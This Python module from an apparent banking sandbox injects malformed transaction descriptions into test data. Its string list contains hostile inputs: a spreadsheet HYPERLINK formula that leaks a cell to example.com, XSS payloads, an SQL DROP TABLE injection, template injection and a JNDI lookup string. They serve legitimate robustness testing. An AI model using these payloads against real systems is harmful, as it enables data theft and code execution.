"""Edge cases of real data: the descriptions, names and gaps of the user `messy`."""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta

from belvo_sandbox.core.digests import number
from belvo_sandbox.people.banking.accounting import Line, Movement, Plan
from belvo_sandbox.people.banking.context import LAST_SECOND
from belvo_sandbox.people.countries.bank_calendar import BankDay
from belvo_sandbox.people.rng import Rng

_HUGE = 99_999_999_99
CORRECTED_AFTER = timedelta(days=3)
_EVERY = 3  # one movement in so many is awkward

_TEXTS = (
    '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
    "=1+1",
    "+52 55 9000 0000 TRASPASO",
    "-1000 AJUSTE",
    "@SUM(A1:A9)",
    "\t=CMD CON TABULADOR",
    "<script>alert('1')</script>",
    '<img src=x onerror="alert(1)"> & <b>negrita</b>',
    "**negrita** _cursiva_ [enlace](https://example.com) `código` $x^2$ :material/warning: # título",
    "| una | tabla |\n|---|---|\n| en | dos líneas |",
    "🌮🎉 Taquería 👩🏽‍🍳 La Niña 🇲🇽 ñandú",
    "مرحبا PAGO שלום",
    "Z̷a̷l̷g̷o̷ pago",
    "COMPRA 'entre comillas'; DROP TABLE transactions; --",
    "PAGO; con, separadores\t\"y\" 'comillas'",
    "{{ 7 * 7 }} ${jndi:ldap://example.com} %s %d {0}",
    "SINESPACIOS" * 40,
    "Descripción larguísima que no termina nunca. " * 40,
    " ",
    "",
    "null",
    "NaN",
    "0",
    "PAGO\u00a0DURO\u200bINVISIBLE",
)


def with_edge_case(key: str, movement: Movement) -> Movement:
    """The movement, or the same one as a careless bank would send it."""
    draw = number("awkward", key, movement.account, movement.day, movement.number)
    if draw % _EVERY or movement.line.quirk:
        return movement
    return movement._replace(line=_spoiled(movement.line, draw // _EVERY))


def _spoiled(line: Line, draw: int) -> Line:
    text = _TEXTS[draw % len(_TEXTS)]
    draw //= len(_TEXTS)
    keeps_category, keeps_merchant = draw % 2, draw // 2 % 3
    return line._replace(
        text=text,
        category=line.category if keeps_category else None,
        subcategory=line.subcategory if keeps_category else None,
        merchant=(None, line.merchant, line.merchant and f"{text[:60]}")[keeps_merchant],
        reference=line.reference if draw // 6 % 2 else None,
    )


@dataclass(frozen=True)
class EdgeCases:
    """Odd movements of each month; together they cost a single unit of the currency."""

    def plans(self, bank_day: BankDay, rng: Rng) -> Iterator[Plan]:
        """Nothing, huge sums to and fro (so that twins have one balance), a hold, a correction, new things."""
        if bank_day.day.day != 9:
            return
        line = Line("AJUSTE", "OTROS", "Unknown", None, reference=rng.digits(7))
        for cents, quirk in (
            (0, "nothing"), (_HUGE, "huge"), (-_HUGE, "huge"), (_HUGE, "twin"), (-_HUGE, "twin"),
            (-100, "unposted"), (100, "corrected"), (-100, "new"),
        ):  # fmt: skip
            category = "Quantum Snacks" if quirk == "new" else line.category
            yield Plan(LAST_SECOND, "checking", cents, line._replace(quirk=quirk, category=category))
